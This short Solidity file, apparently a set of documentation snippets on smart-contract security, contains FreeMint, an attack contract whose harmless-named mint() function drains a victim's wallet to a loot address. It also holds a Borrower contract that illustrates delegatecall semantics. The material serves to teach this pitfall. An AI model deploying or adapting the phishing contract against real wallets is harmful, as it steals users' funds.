// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface IWallet {
    function transfer(address payable to, uint256 amount) external;
}

// #region attack
contract FreeMint {
    IWallet private immutable WALLET;
    address payable private immutable LOOT;

    constructor(IWallet wallet, address payable loot) {
        (WALLET, LOOT) = (wallet, loot);
    }

    /// What the victim means to call.
    function mint() external {
        WALLET.transfer(LOOT, address(WALLET).balance);
    }
}
// #endregion attack

// #region second
/// Runs the wallet's own code by delegatecall: there, msg.sender is still alice.
contract Borrower {
    function mint(address wallet, address payable loot, uint256 amount) external {
        (bool ok, ) = wallet.delegatecall(abi.encodeCall(IWallet.transfer, (loot, amount)));
        require(ok);
    }
}
// #endregion second
